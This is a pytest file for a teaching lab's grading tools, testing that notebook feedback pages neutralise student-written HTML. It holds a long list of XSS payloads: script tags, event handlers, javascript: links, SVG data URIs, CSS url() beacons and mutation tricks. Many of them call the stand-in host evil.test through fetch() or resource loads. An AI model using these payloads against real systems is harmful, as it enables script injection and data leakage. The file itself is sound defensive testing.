"""What students wrote is inert where it is shown; figures, tables and pictures stay."""

import base64
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from nbconvert import HTMLExporter
from nbformat import v4
from traitlets.config import Config

from autograd_lab.grading.feedback import DROPPED, TAGS, clean, inert
from autograd_lab.grading.report import Progress
from autograd_lab.resources import folder
from autograd_lab.trace.cells import run_cells
from autograd_lab.views.display import Display
from tests.browser.conftest import chromium_browser

RUN = "window.ran=1;fetch('http://evil.test/')"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
DATA_SVG = "data:image/svg+xml;base64," + base64.b64encode(SVG.encode()).decode("ascii")
HOSTILE = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=http://evil.test/x.js></SCRIPT ><script>{RUN}",
    f"<script/>{RUN}</script><scr<script>ipt>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    '<img src="http://evil.test/seen.png" srcset="http://evil.test/2.png 2x">',
    '<img src="//evil.test/seen.png"><img src="data:text/html,<script>1</script>">',
    f'<img src="{DATA_SVG}">',
    f'<object data="{DATA_SVG}"></object><embed src="{DATA_SVG}">',
    SVG,
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f'<a href="javascript:{RUN}" autofocus onfocus="{RUN}">x</a>',
    f'<a href="java\nscript:{RUN}">x</a><a href="&#106;avascript:{RUN}">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    "<style>@import 'http://evil.test/x.css'; body{background:url(http://evil.test/y)}</style>",
    '<p style="background:url(http://evil.test/z);position:fixed;inset:0;color:red">red</p>',
    '<p style="color:expression(1);background-color:url(http://evil.test/w)">p</p>',
    '<link rel="stylesheet" href="http://evil.test/x.css"><link rel=prefetch href=//evil.test>',
    '<iframe src="http://evil.test/"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    '<base href="http://evil.test/"><meta http-equiv="refresh" content="0;url=http://evil.test/">',
    f"</textarea></pre></div></body></html><script>{RUN}</script>",
    f"<textarea></textarea><script>{RUN}</script>",
    f"<form action=http://evil.test/><button formaction='javascript:{RUN}'>b</button></form>",
    f"<input autofocus onfocus='{RUN}'><select autofocus onfocus='{RUN}'></select>",
    f"<details open ontoggle='{RUN}'><summary>s</summary></details>",
    f"<video autoplay src=http://evil.test/v onerror='{RUN}'></video><audio src=//evil.test/a>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={RUN}>'>",
    f"<!--><script>{RUN}</script>--><![CDATA[<script>{RUN}</script>]]>",
    f"<template><script>{RUN}</script></template><xmp><script>{RUN}</script></xmp>",
    f"<body onload='{RUN}'><marquee onstart='{RUN}'>m</marquee><plaintext>",
    f"<p id=MathJax class=x name=y onmouseover='{RUN}'>clobbered</p>",
    f"\x00<scr\x00ipt>{RUN}</scr\x00ipt><img/src=x/onerror={RUN}>",
    r"$\href{javascript:window.ran=1}{x}$ $\require{html}\style{background:url(//evil.test/m)}{x}$",
    f"$a<b$ and $x>y$ <script>{RUN}</script> $$\\text{{<img src=x onerror={RUN}>}}$$",
]
KEPT_NAMES = TAGS - DROPPED


@pytest.mark.parametrize("html", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_is_left_that_acts(html: str) -> None:
    """Of elements, handlers, addresses and styles only harmless ones stay; twice changes nothing."""
    cleaned = clean(html)
    for name, attributes in re.findall(r"<([^\s/>]+)([^>]*)", cleaned):
        assert name in KEPT_NAMES
        outside = re.sub(r'"[^"]*"', "", attributes)
        assert not re.search(r"\b(on\w+|srcset|id|class|name)\s*=", outside), cleaned
    assert not re.search(r'(src|href)="(?!data:image/svg\+xml;base64,)', cleaned)
    assert "url(" not in "".join(re.findall(r'style="([^"]*)"', cleaned))
    assert clean(cleaned) == cleaned


def test_what_we_show_survives() -> None:
    """The picture, its caption and the tables of a view stay, and so does a learner's progress."""
    x = "x = torch.tensor([1.0, 2.0], requires_grad=True)"
    trace = run_cells(["import autograd_lab as torch", x, "(x * x).sum().backward()"])
    view = Display(trace)._repr_html_()
    for html in (view, Progress({"q1": 2.0}, {"q1": 1.0})._repr_html_()):
        shown = re.sub(r"<(script|style)\b.*?</\1>", "", html, flags=re.DOTALL)
        assert text(clean(html)) == text(shown)
        for element in ("<figure", "<figcaption", "<td", "<tr", "<table", "<details", "<img"):
            assert clean(html).count(element) == shown.count(element), element
    assert re.findall(r'src="[^"]*"', clean(view)) == re.findall(r'src="[^"]*"', view) != []
    assert 'style="text-align:left;"' in clean(view)


def text(html: str) -> str:
    """Return what is between the tags of HTML."""
    return re.sub(r"<[^>]*>", "", html)


def test_formulas_and_ordinary_html_stay() -> None:
    """Signs in formulas are text; emphasis, lists, links and colours are what they were."""
    page = feedback(v4.new_notebook(cells=[v4.new_markdown_cell("**So:** $a<b$ & $c > d$")]))
    assert "<strong>So:</strong> $a&lt;b$ &amp; $c &gt; d$" in page
    kept = '<p style="color:red;">a <a href="https://pytorch.org">b</a></p><ul><li>c</li></ul>'
    assert clean(kept) == kept


def feedback(notebook: Any) -> str:
    """Return a notebook as nbgrader's feedback page, with the settings of a course."""
    import nbgrader.server_extensions.formgrader as formgrader

    lines = (folder("exercises") / "nbgrader_config.py").read_text(encoding="utf-8").splitlines()
    first = next(n for n, line in enumerate(lines) if line.startswith("c.HTMLExporter."))
    last = next(n for n in range(first, len(lines)) if lines[n] == "}")
    settings = Config()
    exec("\n".join(lines[first : last + 1]), {"c": settings})
    assert {"sanitize_html", "preprocessors", "filters"} == set(settings.HTMLExporter)
    settings.HTMLExporter.template_name = "feedback"
    templates = Path(formgrader.__file__).parent / "templates"
    settings.HTMLExporter.extra_template_basedirs = [str(templates)]
    css = Path(formgrader.__file__).parent / "static/node_modules/bootstrap/dist/css"
    settings.HTMLExporter.extra_template_paths = [str(css)]
    known = {"notebook": "ps1", "score": 1, "max_score": 2, "late_penalty": 0}
    resources = {"nbgrader": known, "inlining": {"css": []}}
    page: str = HTMLExporter(config=settings).from_notebook_node(notebook, resources)[0]
    return page


def hostile_notebook() -> Any:
    """Return a notebook with something hostile everywhere a notebook has room for it."""
    cells = []
    forged = {"grade_id": f'"><script>{RUN}</script>', "grade": True, "solution": True}
    for html in HOSTILE:
        outputs = [
            v4.new_output(
                "display_data", {"text/html": html}, metadata={"text/html": {"isolated": 1}}
            ),
            v4.new_output("display_data", {"text/markdown": html}),
            v4.new_output("display_data", {"text/latex": html}),
            v4.new_output("display_data", {"text/plain": html}),
            v4.new_output("display_data", {"image/svg+xml": html}),
            v4.new_output("stream", text=html),
            v4.new_output("error", ename=html, evalue=html, traceback=[html]),
        ]
        cells += [v4.new_markdown_cell(html), v4.new_code_cell(html, outputs=outputs)]
        cells.append(v4.new_raw_cell(html, metadata={"raw_mimetype": "text/html"}))
        answer = {"grade_id": "q", "grade": True, "solution": True, "points": 1, "score": 0}
        cells.append(v4.new_markdown_cell(html, metadata={"nbgrader": {**answer, "comment": html}}))
    script = {"application/javascript": RUN, "text/plain": "script"}
    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "</script>"}}
    sized = {"image/png": {"width": f"1 onload={RUN}", "height": f"1 onerror={RUN}"}}
    cells.append(
        v4.new_code_cell(
            "1",
            metadata={"tags": [f'"><script>{RUN}</script>'], "nbgrader": forged},
            outputs=[
                v4.new_output("display_data", script),
                v4.new_output("display_data", widget),
                v4.new_output("display_data", {"image/png": "AAAA"}, metadata=sized),
                v4.new_output("display_data", {"image/png": f'"><script>{RUN}</script>'}),
            ],
        )
    )
    state = {"application/vnd.jupyter.widget-state+json": {"state": f"</script><script>{RUN}"}}
    language = {"name": "x", "pygments_lexer": f"<script>{RUN}</script>"}
    notebook = v4.new_notebook(cells=cells, metadata={"widgets": state, "language_info": language})
    notebook.metadata["title"] = f"</title><script>{RUN}</script>"
    return notebook


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """A chromium for feedback."""
    pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    with chromium_browser() as running:
        yield running


def opened(browser: Any, path: Path, html: str) -> tuple[Any, list[str]]:
    """Open a page of a file; return it, and the addresses it will have asked for."""
    path.write_text(html, encoding="utf-8")
    asked: list[str] = []
    page = browser.new_page()

    def refuse(route: Any) -> None:
        asked.append(route.request.url)
        route.abort()

    page.route(re.compile(r"^(?!file:|data:)"), refuse)
    page.goto(path.as_uri(), wait_until="load")
    return page, asked


@pytest.mark.needs_browser
def test_a_hostile_notebook_does_nothing_in_a_browser(browser: Any, tmp_path: Path) -> None:
    """The feedback of all of it at once runs no script and asks for nothing but nbgrader's MathJax."""
    with pytest.warns(UserWarning):  # of a language without a name that can be coloured
        html = feedback(hostile_notebook())
    page, asked = opened(browser, tmp_path / "feedback.html", html)
    for link in page.locator("#notebook a:not([href^=http])").all():
        link.dispatch_event("click")
        link.dispatch_event("focus")
    page.locator("p", has_text="clobbered").first.hover()
    assert page.url.partition("#")[0] == (tmp_path / "feedback.html").as_uri()
    assert page.evaluate("window.ran") is None
    assert page.locator("#notebook").first.inner_text().count("clobbered") > 3
    assert page.locator("textarea, form, iframe, object, style ~ #notebook style").count() == 0
    assert all("mathjax" in url for url in asked)


@pytest.mark.needs_browser
def test_without_the_settings_it_acts(browser: Any, tmp_path: Path) -> None:
    """Stock's own page runs the script and asks for the picture: the test above would see both."""
    cells = [v4.new_markdown_cell(html) for html in HOSTILE[3:5]]
    html, _resources = HTMLExporter().from_notebook_node(v4.new_notebook(cells=cells))
    page, asked = opened(browser, tmp_path / "stock.html", html)
    page.wait_for_function("window.ran === 1")
    assert "http://evil.test/seen.png" in asked


def test_a_name_is_text() -> None:
    """Formgrader's page puts the student's name in as it is: it is escaped before."""
    notebook = v4.new_notebook()
    _notebook, resources = inert(notebook, {"student": "<img src=x>", "assignment_id": "ps1"})
    assert resources == {"student": "&lt;img src=x&gt;", "assignment_id": "ps1"}
